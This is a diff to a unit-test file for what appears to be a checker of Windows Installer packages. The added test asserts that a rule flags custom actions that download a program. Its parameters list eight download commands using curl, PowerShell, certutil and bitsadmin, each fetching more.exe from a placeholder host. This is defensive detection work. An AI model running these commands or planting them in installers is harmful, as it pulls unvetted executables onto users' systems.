@@ -25,6 +25,7 @@ from tests.unit.rules.edits import (
     NEAR,
     SAME_CODE,
     Edit,
+    action,
     added,
     both,
     carried_out,
@@ -311,3 +312,21 @@ def test_an_account_has_several_names(given: str, declared: str, same: bool, goo
     profile = PROFILE.model_copy(update={"services": services})
     broken = {each.rule for each in found(good, changed("ServiceInstall", "*", StartName=given), profile)}
     assert ("msi.services.account" not in broken) is same
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "[System64Folder]curl.exe -O http://updates.example/more.exe",
+        'cmd.exe /c "curl -o more.exe https://updates.example/more.exe"',
+        "cmd /c cd [INSTALLDIR] && curl -O https://updates.example/more.exe",
+        'cmd.exe /c start /b "" curl -O https://updates.example/more.exe',
+        "powershell.exe -NoProfile wget https://updates.example/more.exe -OutFile more.exe",
+        'powershell -Command "iwr https://updates.example/more.exe"',
+        '"C:\\Windows\\System32\\certutil.exe" -urlcache -f https://updates.example/more.exe more.exe',
+        "bitsadmin /transfer job https://updates.example/more.exe more.exe",
+    ],
+)
+def test_what_fetches_a_program_is_told_in_each_of_its_forms(command: str, good: Tables) -> None:
+    broken = found(good, action("Fetch", 34 + 3072, "TARGETDIR", command))
+    assert "msi.actions.fetches-a-program" in {each.rule for each in broken}
